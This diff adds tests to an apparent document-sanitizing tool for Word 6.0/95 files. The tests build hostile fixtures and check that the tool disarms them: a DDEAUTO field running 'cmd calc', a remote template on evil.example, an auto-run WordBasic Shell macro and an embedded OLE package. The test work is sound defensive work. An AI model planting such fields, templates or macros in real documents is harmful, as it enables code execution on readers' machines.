@@ -219,6 +219,130 @@ def test_word_dde_corpus_sample(tmp_path: Path) -> None:
     assert_opens(tmp_path, out, "Fehler! Kein Thema angegeben.", "feldname")
 
 
+# ------------------------------------------------------------------- Word 6.0/95
+
+#: real Word 6.0 files (Apache POI's test data, see samples/catalog.yaml): text in one
+#: run, and text through a piece table with a DATE field and an empty ObjectPool
+WORD6 = ROOT / "samples" / "office" / "poi-word6.doc"
+WORD6_FAX = ROOT / "samples" / "office" / "poi-word6-fax.doc"
+
+
+def _w6_pair(index: int) -> int:
+    """Offset of FC/LCB pair ``index`` in a Word 6.0/95 FIB (LibreOffice ww8scan.cxx)."""
+    return 88 + 8 * index if index < 38 else 402 + 8 * (index - 38)
+
+
+def _w6_append(wd: bytearray, index: int, blob: bytes) -> None:
+    struct.pack_into("<II", wd, _w6_pair(index), len(wd), len(blob))
+    wd += blob
+
+
+def _w6_stream(data: bytes) -> bytes:
+    return olegen.streams(data)["WordDocument"]
+
+
+def test_word6_fields_template_and_wordbasic(tmp_path: Path) -> None:
+    """A DDEAUTO field over the first words, a remote attached template and a command
+    table with a WordBasic macro (names and list too): all three go, the text stays."""
+    base = WORD6.read_bytes()
+    root = olegen.tree(base)
+    wd_node = root.child("WordDocument")
+    assert wd_node is not None
+    wd = bytearray(wd_node.data)
+    old = b"The quick brown fox jumps over"
+    new = b"\x13DDEAUTO cmd calc\x14quick brown\x15"
+    assert len(old) == len(new) and wd.count(old) == 1
+    wd[wd.index(old):wd.index(old) + len(old)] = new
+    template = b"\\\\evil.example\\share\\normal.dot"
+    _w6_append(wd, 32, struct.pack("<H", 4 + len(template)) + b"\x00"
+               + bytes([len(template)]) + template)
+    _w6_append(wd, 24, b"\xff\x01\x01\x00" + b"Sub MAIN Shell \"calc.exe\" End Sub" + b"\x40")
+    _w6_append(wd, 26, b"\x0c\x00\x09AutoOpen\x00")
+    wd_node.data = bytes(wd)
+    data = cfb_writer.write(root)
+
+    report, out = run(tmp_path, data, "word6.doc")
+    assert report.verdict is Verdict.DISARMED
+    assert found(report) == {
+        ("ole.dde", "WordDocument#field[0]", "neutralized"),
+        ("ole.external_template", "WordDocument#SttbfAssoc", "neutralized"),
+        ("ole.wordbasic", "WordDocument#Cmds", "removed"),
+    }
+    assert_clean_output(out, data, {"WordDocument"})
+    got = _w6_stream(out.read_bytes())
+    assert b"DDEAUTO" not in got and b"evil.example" not in got
+    assert b"Shell" not in got and b"AutoOpen" not in got
+    fc_cmds, lcb_cmds = struct.unpack_from("<II", got, _w6_pair(24))
+    assert lcb_cmds == 2 and got[fc_cmds:fc_cmds + 2] == b"\xff\x40"
+    assert struct.unpack_from("<II", got, _w6_pair(26))[1] == 0
+    assert len(got) == len(wd)    # every edit in place
+    assert_opens(tmp_path, out, "quick brown", "the lazy dog")
+    assert "DDEAUTO" not in (olegen.lo_texts([out], tmp_path / "lo")[out.name] or "")
+
+
+def test_word6_real_field_in_a_piece_table(tmp_path: Path) -> None:
+    """The fax's real DATE field, rewritten into DDEAUTO (same length): found through the
+    piece table, its instruction blanked and its type made inert; an OLE package put in
+    its ObjectPool goes."""
+    base = WORD6_FAX.read_bytes()
+    root = olegen.tree(base)
+    wd_node, pool = root.child("WordDocument"), root.child("ObjectPool")
+    assert wd_node is not None and pool is not None and not pool.children
+    wd = bytearray(wd_node.data)
+    assert wd[10] & 0x04    # fComplex: the text is read through the piece table
+    old, new = b"DATE \\@ jj/MM/aa", b"DDEAUTO cmd calc"
+    assert len(old) == len(new) and wd.count(old) == 1
+    wd[wd.index(old):wd.index(old) + len(old)] = new
+    wd_node.data = bytes(wd)
+    pool.children.append(olegen.with_name(
+        olegen.subtree(sample("oletools/embedded-simple-2007.doc"), "ObjectPool",
+                       "_1577691201"), "_1000000001"))
+    data = cfb_writer.write(root)
+    assert olegen.oletools_flags(_write(tmp_path, "in.doc", data)) != []
+
+    report, out = run(tmp_path, data, "fax.doc")
+    assert report.verdict is Verdict.DISARMED
+    assert found(report) == {
+        ("ole.dde", "WordDocument#field[0]", "neutralized"),
+        ("ole.package", "ObjectPool/_1000000001", "removed"),
+    }
+    assert_clean_output(out, data, {"WordDocument", "ObjectPool"})
+    got = _w6_stream(out.read_bytes())
+    at = wd.index(new)
+    assert got[at:at + len(new)].strip() == b"" and got[at - 1] == 0x13
+    # PlcffldMom: the field's begin, separator and end (4 CPs, 3 FLDs); begin's type QUOTE
+    fc, lcb = struct.unpack_from("<II", got, _w6_pair(16))
+    assert lcb == 4 * 4 + 2 * 3 and got[fc + 16:fc + 18] == b"\x13\x23"
+    assert wd[fc + 16:fc + 18] == b"\x13\x1f"                 # DATE in the input
+    assert_opens(tmp_path, out, "KATALYSE", "Date 12 12 97", "APPLICOLOR")
+
+
+@pytest.mark.parametrize("path", [WORD6, WORD6_FAX], ids=["run", "pieces"])
+def test_word6_clean_is_left_as_it_is(tmp_path: Path, path: Path) -> None:
+    data = path.read_bytes()
+    report, out = run(tmp_path, data, path.name)
+    assert report.verdict is Verdict.CLEAN and found(report) == set()
+    assert olegen.streams(out.read_bytes()) == olegen.streams(data)
+
+
+def test_word6_encrypted_and_word2_are_refused(tmp_path: Path) -> None:
+    root = olegen.tree(WORD6.read_bytes())
+    wd_node = root.child("WordDocument")
+    assert wd_node is not None
+    wd = bytearray(wd_node.data)
+    wd[11] |= 0x01                               # fEncrypted
+    wd_node.data = bytes(wd)
+    report, _ = run(tmp_path, cfb_writer.write(root), "enc.doc")
+    assert report.verdict is Verdict.BLOCKED
+    assert found(report) == {("block.encrypted", "", "blocked")}
+    wd[11] &= 0xFE
+    struct.pack_into("<H", wd, 2, 0x2D)          # a Word 2.0 nFib
+    wd_node.data = bytes(wd)
+    report, _ = run(tmp_path, cfb_writer.write(root), "word2.doc")
+    assert report.verdict is Verdict.BLOCKED
+    assert found(report) == {("block.unsupported", "", "blocked")}
+
+
 # --------------------------------------------------------------------------- Excel
 
 
